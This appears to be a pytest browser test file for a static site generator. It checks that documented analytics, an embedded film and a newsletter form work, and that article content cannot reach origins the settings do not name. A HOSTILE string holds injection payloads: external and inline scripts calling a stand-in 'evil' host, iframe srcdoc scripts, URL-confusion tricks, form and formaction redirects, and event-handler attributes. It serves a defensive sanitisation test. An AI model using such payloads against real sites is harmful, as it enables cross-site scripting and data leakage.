"""
Analytics, a film and a form, as the docs tell to add them, in a real Chromium.

Stand-ins for the other sites answer on this machine. The policy is tried as pages say it,
and as a host sends it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from chromium import LIMIT, visiting
from doc_examples import shown_files, shown_settings
from harness import SETTINGS, SiteFolder, article
from playwright.sync_api import Browser
from serving import Quiet, serving

from commentariat.pipeline import check_site

pytestmark = pytest.mark.browser

HOW_TO = "how-to/analytics-and-embeds.md"
SCRIPT = "fetch(new URL('/api/event', document.currentScript.src), {method: 'POST', body: 'seen'})"
FILM = "<!DOCTYPE html><title>x</title><p>A film.</p><script>document.title = 'plays'</script>"
HOSTILE = """\
<script src="{evil}/x.js"></script><script>fetch('{evil}/inline')</script>

<iframe src="{evil}/frame" title="x"></iframe>

<iframe src="{good}/embed/x" srcdoc="<script>parent.acted=1</script>" title="x"></iframe>

<iframe src="{good}@{bare}/at" title="x"></iframe> <iframe src="{good}.{bare}/dot" title="x"></iframe>

<video src="{evil}/film" poster="{evil}/poster"><source src="{evil}/source"></video>

<audio src="{evil}/sound" autoplay onplay="acted=1"></audio>

<form action="{evil}/form"><button id="out">Out</button></form>

<form action="{good}/subscribe" method="post"><input type="hidden" name="a" value="b"><button \
id="else" formaction="{evil}/formaction" formmethod="get">Go</button></form>

<img src=x onerror="acted=1" alt="x"><svg onload="acted=1"></svg><p onclick="acted=1">a</p>
"""
Asked = list[tuple[str, str, str]]


class _Stranger(Quiet):
    """Another site: a script, a page with a film, and whoever takes what is sent."""

    asked: Asked

    def do_GET(self) -> None:
        kind = "text/javascript" if self.path.endswith(".js") else "text/html"
        self._answer(kind, SCRIPT if kind == "text/javascript" else FILM)

    def do_POST(self) -> None:
        self._answer("text/html", "<!DOCTYPE html><title>thanks</title>")

    def do_OPTIONS(self) -> None:
        self._answer("text/plain", "")

    def _answer(self, kind: str, text: str) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        sent = self.rfile.read(length).decode()
        self.asked.append((self.command, self.path, sent))
        self.send_response(200)
        self.send_header("Content-Type", f"{kind}; charset=utf-8")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text.encode())


class _Host(Quiet):
    """The site, from the folder of its output, with the headers that the host is told."""

    folder: Path
    policy: str

    def do_GET(self) -> None:
        path = self.folder / self.path.partition("?")[0].lstrip("/")
        path = path / "index.html" if path.is_dir() else path
        data = path.read_bytes() if path.is_file() else b""
        kinds = {
            ".html": "text/html; charset=utf-8",
            ".css": "text/css",
            ".svg": "image/svg+xml",
        }
        self.send_response(200 if path.is_file() else 404)
        self.send_header(
            "Content-Type", kinds.get(path.suffix, "application/octet-stream")
        )
        if self.policy:
            self.send_header("Content-Security-Policy", self.policy)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


@pytest.fixture
def asked() -> Asked:
    """What the other sites were asked: method, path and what was sent."""
    return []


@pytest.fixture
def other(asked: Asked) -> Iterator[str]:
    """The origin of another site, which settings name."""
    with serving(_Stranger, asked=asked) as found:
        yield found


def site_of_docs(folder: Path, origin: str) -> SiteFolder:
    """Make the site that the how-to tells of, with *origin* for those of its examples."""
    host = '\n[tool.commentariat.publish]\nhost = "netlify"\n'
    files = {
        "pyproject.toml": f"{SETTINGS}\n{shown_settings(HOW_TO)}{host}",
        **shown_files(HOW_TO),
    }
    assert len(files) == 4
    site = SiteFolder(folder)
    for path, text in files.items():
        site.write(
            path, re.sub(r"https://(?!archive\.)\w+\.example\.org", origin, text)
        )
    return site


def is_sent(site: SiteFolder) -> str:
    """Give the policy that the host is told to send."""
    found = re.search(
        r"^  Content-Security-Policy: (.*)$", site.page("_headers"), re.MULTILINE
    )
    assert found is not None
    return found[1]


@pytest.mark.parametrize("is_header", [False, True])
def test_what_the_docs_tell_to_add_runs(
    browser: Browser, tmp_path: Path, other: str, asked: Asked, is_header: bool
) -> None:
    site = site_of_docs(tmp_path / "site", other).build()
    assert not site.problems
    report = check_site(site.options())
    assert report.problems == ()
    assert [one for one in report.open_points if one.kind != "no author"] == []
    policy = is_sent(site) if is_header else ""
    with serving(_Host, folder=site.folder / "output", policy=policy) as origin:
        with visiting(browser, f"{origin}/") as page:
            assert ("GET", "/js/script.js", "") in asked
        assert ("POST", "/api/event", "seen") in asked
        with visiting(browser, f"{origin}/articles/film/") as page:
            frame = page.frame_locator("iframe[title='The ferry at night']")
            assert frame.locator("p").inner_text() == "A film."
        with visiting(browser, f"{origin}/letter/") as page:
            page.get_by_label("Your address").fill("ines@institute.test")
            page.get_by_role("button", name="Send").click()
            page.wait_for_url(f"{other}/subscribe")
        assert ("POST", "/subscribe", "email=ines%40institute.test") in asked


def test_content_reaches_no_origin_that_is_not_named(
    browser: Browser, tmp_path: Path, other: str
) -> None:
    strange: Asked = []
    site = site_of_docs(tmp_path / "site", other)
    with serving(_Stranger, asked=strange) as evil:
        bare = evil.removeprefix("http://")
        body = HOSTILE.format(evil=evil, good=other, bare=bare)
        site.write("content/files/x", b"x").write("content/articles/x", b"x")
        body = body.replace("<img src=x", '<img src="/files/x"')
        site.write("content/articles/h.md", article("H", body, slug="h")).build()
        assert not site.problems
        with serving(_Host, folder=site.folder / "output", policy="") as origin:
            page = browser.new_page()
            page.set_default_timeout(LIMIT)
            page.goto(f"{origin}/articles/h/")
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.acted") is None
            assert page.locator("#out").count() == 0
            page.locator("#else").click()
            page.wait_for_url(f"{other}/subscribe")
            page.close()
    assert strange == []
